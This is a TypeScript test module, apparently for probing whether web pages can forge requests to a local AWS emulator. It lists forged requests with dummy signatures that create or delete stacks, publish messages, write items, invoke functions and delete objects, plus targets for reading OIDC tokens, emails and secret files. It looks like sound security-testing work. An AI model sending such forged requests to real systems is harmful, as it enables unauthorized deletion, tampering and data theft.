import type { Target } from './attacker.ts';
import type { Victim } from './victim.ts';

const signed = (service: string): string => `test/20260101/us-east-1/${service}/aws4_request`;

/** A request as pages can forge it: as if it was signed in its query, and with its header where there is a preflight. */
function forged(origin: string, path: string, service: string, { body = '', headers = {} } = {}): Target {
  const url = new URL(path, origin);
  const stamp = new Date().toISOString().replaceAll(/[-:]|\.\d+/g, '');
  const query = {
    'X-Amz-Algorithm': 'AWS4-HMAC-SHA256',
    'X-Amz-Credential': signed(service),
    'X-Amz-Date': stamp,
    'X-Amz-Expires': '600',
    'X-Amz-SignedHeaders': 'host',
    'X-Amz-Signature': '0'.repeat(64),
  };
  for (const [name, value] of Object.entries(query)) url.searchParams.set(name, value);
  const authorization = `AWS4-HMAC-SHA256 Credential=${signed(service)}, SignedHeaders=host, Signature=0`;
  return { url: url.href, body, headers: { authorization, ...headers } };
}

const template = JSON.stringify({ Resources: { Queue: { Type: 'AWS::SQS::Queue' } } });

/** Calls of AWS APIs that change something. */
export function actionTargets(origin: string, victim: Victim): Readonly<Record<string, Target>> {
  const query = (service: string, path: string, parameters: Readonly<Record<string, string>>): Target => {
    const body = String(new URLSearchParams(parameters));
    return forged(origin, `${path}?${body}`, service, { body });
  };
  const json = { 'content-type': 'application/x-amz-json-1.0' };
  const item = JSON.stringify({ TableName: 'victim', Item: { id: { S: 'written by a page' } } });
  return {
    CreateStack: query('cloudformation', '/', { Action: 'CreateStack', StackName: 'evil', TemplateBody: template }),
    DeleteStack: query('cloudformation', '/', { Action: 'DeleteStack', StackName: 'victim' }),
    CreateTopic: query('sns', '/', { Action: 'CreateTopic', Name: 'evil', Version: '2010-03-31' }),
    Publish: query('sns', '/', { Action: 'Publish', TopicArn: victim.output('Topic'), Message: 'evil' }),
    SendMessage: query('sqs', '/000000000000/victim', { Action: 'SendMessage', MessageBody: 'evil' }),
    unsignedSendMessage: {
      url: `${origin}/000000000000/victim?Action=SendMessage&MessageBody=evil`,
      body: 'Action=SendMessage&MessageBody=evil',
    },
    PutItem: forged(origin, '/', 'dynamodb', {
      body: item,
      headers: { ...json, 'x-amz-target': 'DynamoDB_20120810.PutItem' },
    }),
    Invoke: forged(origin, '/2015-03-31/functions/victim/invocations', 'lambda', { body: '{}' }),
    PutObject: forged(origin, '/victim/evil.txt', 's3', { body: 'evil' }),
    CreateBucket: { url: `${origin}/evil`, body: '' },
    DeleteObjects: forged(origin, '/victim?delete', 's3', {
      body: '<Delete><Object><Key>secret.js</Key></Object></Delete>',
    }),
  };
}

/** What a page would like to read. */
export function readTargets(origin: string): Readonly<Record<string, Target>> {
  const paths = [
    '/_local/apis',
    '/_api',
    '/_api/unknown/',
    '/_local/oidc/token?sub=alice',
    '/_localstack/health',
    '/_local/emails',
    '/victim',
    ...['secret.js', 'secret.css', 'secret.svg', 'secret.html'].map((key) => `/victim/${key}`),
  ];
  return {
    ...Object.fromEntries(paths.map((path) => [path, { url: `${origin}${path}`, body: 'sub=alice' }])),
    'presigned secret.js': forged(origin, '/victim/secret.js', 's3'),
  };
}

/** The APIs without CORS settings, by path. */
export function apiTargets(origin: string, victim: Victim): Readonly<Record<string, Target>> {
  const body = 'a=b';
  return {
    'REST API': { url: `${origin}/restapis/${victim.output('RestApi')}/dev/_user_request_/`, body },
    'HTTP API': { url: `${origin}/_aws/execute-api/${victim.output('HttpApi')}/$default/`, body },
    'REST API by name': { url: `${origin}/_api/victim.RestApi/`, body },
    'HTTP API by name': { url: `${origin}/_api/victim.HttpApi/`, body },
  };
}
